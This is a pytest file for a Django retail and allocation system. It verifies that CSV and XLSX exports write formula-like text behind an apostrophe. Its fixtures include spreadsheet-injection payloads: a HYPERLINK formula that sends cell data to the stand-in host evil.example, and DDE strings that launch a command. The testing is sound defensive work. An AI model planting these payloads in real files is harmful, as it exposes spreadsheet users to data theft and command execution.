"""Every CSV/XLSX export writes formula-like text as inert text (issue 18, "exports neutralise formulas").

A retailer or product named `=HYPERLINK(…)` came out as a live formula cell in the admin's retailer
and product exports, the manager's workspace XLSX, the allocation report XLSX and
`run_allocation --report`. One rule now (`core.reports.formulas.neutralise`): text starting with
= + - @, a tab or a carriage return is written behind an apostrophe; numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal

import pytest
from django.core.management import call_command
from django.urls import reverse
from django.utils import translation
from django.utils.text import capfirst
from openpyxl import load_workbook

from allocation.models import AllocationRun, SupplyPlanLine
from core.reports.exports import report_xlsx
from core.reports.formulas import neutralise
from core.reports.tables import MONEY, TEXT, Table
from pricing.models import Product
from profitability.services import profit_figures_nightly
from retailers.models import Retailer
from tests.allocation.conftest import planned  # noqa: F401 - shared fixture
from tests.factories import ProductFactory, RetailerFactory
from tests.portal.conftest import city, manager1  # noqa: F401 - shared fixtures

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://evil.example/?"&A1,"点我领货")'
PAYLOADS = [
    LINK,
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        *[(p, "'" + p) for p in PAYLOADS],
        ("-", "'-"),
        ("=", "'="),
        ("-12", "-12"),  # text that is only a number is not a formula
        ("-3.5%", "-3.5%"),
        ("+1,234.50", "+1,234.50"),
        (-12, -12),  # numbers stay numbers
        (-2.5, -2.5),
        (Decimal("-0.10"), Decimal("-0.10")),
        ("测试店 =1", "测试店 =1"),
        ("", ""),
        (None, None),
    ],
)
def test_the_rule(value, written):
    assert neutralise(value) == written


def _csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def _xlsx_cells(content: bytes):
    sheet = load_workbook(io.BytesIO(content)).active  # data_only=False: a formula would read as one
    return [cell for row in sheet.iter_rows() for cell in row]


def _live(value) -> bool:
    """Text a spreadsheet would read as a formula: a trigger first and not just a number."""
    return (
        isinstance(value, str)
        and value[:1] in ("=", "+", "-", "@", "\t", "\r", "\n")
        and not re.fullmatch(r"[+-]?[\d,.]+%?", value)
    )


def _assert_inert_xlsx(cells, payloads) -> None:
    by_value = {c.value: c for c in cells if c.value is not None}
    for payload in payloads:
        cell = by_value.get(("'" + payload).replace("\r", "\n"))  # XML reads a CR back as LF
        assert cell is not None, f"{payload!r} not written behind an apostrophe"
        assert cell.data_type == "s"  # text, not a formula
    assert not any(c.data_type == "f" for c in cells)
    assert not [c.value for c in cells if _live(c.value)]


def _assert_inert_csv(rows, payloads) -> None:
    values = {v for row in rows for v in row}
    for payload in payloads:
        assert "'" + payload in values, f"{payload!r} not written behind an apostrophe"
    assert not [v for v in values if _live(v)]


def _export(client, url_name: str, resource: str, fields: list[str], file_format: str) -> bytes:
    response = client.post(
        reverse(url_name),
        {
            "format": {"csv": "0", "xlsx": "1"}[file_format],
            "resource": "0",
            **{f"{resource}_{f}": "on" for f in fields},
        },
    )
    assert response.status_code == 200
    return response.content


RETAILER_FIELDS = [
    "customer_code",
    "name",
    "owner_name",
    "phone",
    "address",
    "integrity_group",
    "vulnerable_reason",
    "tier",
]


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
@pytest.mark.parametrize("role", ["supervisor", "manager"])
def test_admin_retailer_export(client, supervisor, manager_a, file_format, role):
    RetailerFactory(
        customer_code="C-EVIL", manager=manager_a, tier=7, name=PAYLOADS[0], owner_name=PAYLOADS[1], phone=PAYLOADS[2],
        address=PAYLOADS[3], integrity_group=PAYLOADS[4], vulnerable_reason=PAYLOADS[5],
    )  # fmt: skip
    client.force_login(supervisor if role == "supervisor" else manager_a)

    content = _export(client, "admin:retailers_retailer_export", "retailerresource", RETAILER_FIELDS, file_format)

    if file_format == "csv":
        rows = _csv_rows(content)
        _assert_inert_csv(rows, PAYLOADS)
        header = rows[0]  # headed by the fields' names in the reader's language (core.admin_exports)
        with translation.override("zh-hans"):
            names = {f: capfirst(str(Retailer._meta.get_field(f).verbose_name)) for f in RETAILER_FIELDS}
        shop = dict(zip(header, next(r for r in rows if r[header.index(names["customer_code"])] == "C-EVIL"), strict=True))
        assert [shop[names[f]] for f in RETAILER_FIELDS[1:]] == [*["'" + p for p in PAYLOADS], "D7"]
    else:
        cells = _xlsx_cells(content)
        _assert_inert_xlsx(cells, PAYLOADS)
        assert any(c.value == "D7" for c in cells)  # the tier as its label


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_admin_product_export(client, supervisor, file_format):
    ProductFactory(code="90000001", name=LINK, brand="-1+1", wholesale_price=Decimal("-0.00") + Decimal("123.40"))
    client.force_login(supervisor)

    content = _export(
        client,
        "admin:pricing_product_export",
        "productresource",
        ["code", "name", "brand", "wholesale_price"],
        file_format,
    )

    if file_format == "csv":
        _assert_inert_csv(_csv_rows(content), [LINK, "-1+1"])
    else:
        cells = _xlsx_cells(content)
        _assert_inert_xlsx(cells, [LINK, "-1+1"])
        price = next(c for c in cells if c.value == Decimal("123.40") or c.value == 123.4)
        assert price.data_type == "n"


def test_report_xlsx_writes_text_inert_and_numbers_as_numbers():
    """The one XLSX writer of the titled tables (workspace, profit report, overview, compliance
    figures, diversion alerts): title, headings and text cells inert; money and counts numeric."""
    table = Table("t", LINK, ["=A1", "店"], [TEXT, MONEY], [[PAYLOADS[1], Decimal("-12.50")], ["-7", -3]])
    content = report_xlsx("@title", [table])
    cells = _xlsx_cells(content)
    _assert_inert_xlsx(cells, ["@title", "=A1", PAYLOADS[1]])
    values = [c.value for c in cells]
    assert -12.5 in values  # a loss is a number, not text
    assert "-7" in values  # text that is a number is left as written
    money = next(c for c in cells if c.value == -12.5)
    assert money.data_type == "n"


@pytest.fixture
def profits(city):  # noqa: F811
    return profit_figures_nightly(today=city)


def test_manager_workspace_xlsx(client, manager1, profits):  # noqa: F811
    shop = Retailer.objects.filter(manager=manager1, status="active").order_by("customer_code").first()
    Retailer.objects.filter(pk=shop.pk).update(name=LINK)
    client.force_login(manager1)

    response = client.get(reverse("admin:profitability_workspace"), {"format": "xlsx"})

    assert response.status_code == 200
    cells = _xlsx_cells(response.content)
    _assert_inert_xlsx(cells, [LINK])
    row = next(
        r
        for r in load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True)
        if r[0] == shop.customer_code
    )
    assert row[1] == "'" + LINK
    assert isinstance(row[3], int)  # cartons stay a number
    report = client.get(reverse("admin:profitability_report", args=[shop.pk]), {"format": "xlsx"})
    assert report.status_code == 200
    _assert_inert_xlsx(_xlsx_cells(report.content), [])  # the per-shop report names the shop in its title


def test_allocation_report_xlsx_and_run_allocation_csv(client, supervisor, planned, tmp_path):  # noqa: F811
    line = SupplyPlanLine.objects.select_related("product").order_by("product__code").first()
    Product.objects.filter(pk=line.product_id).update(name=LINK)
    report = tmp_path / "report.csv"

    call_command("run_allocation", "--cycle", planned.label, "--report", str(report))

    rows = _csv_rows(report.read_bytes())
    _assert_inert_csv(rows, [LINK])
    header = rows[0]
    mine = next(r for r in rows if r[header.index("卷烟编码")] == line.product.code)
    assert int(mine[header.index("投放量（条）")]) == line.target  # figures are plain numbers
    run = AllocationRun.objects.latest("pk")
    client.force_login(supervisor)
    response = client.get(reverse("admin:allocation_allocationrun_report", args=[run.pk]), {"format": "xlsx"})
    assert response.status_code == 200
    cells = _xlsx_cells(response.content)
    _assert_inert_xlsx(cells, [LINK])
    assert any(c.data_type == "n" and c.value == line.target for c in cells)
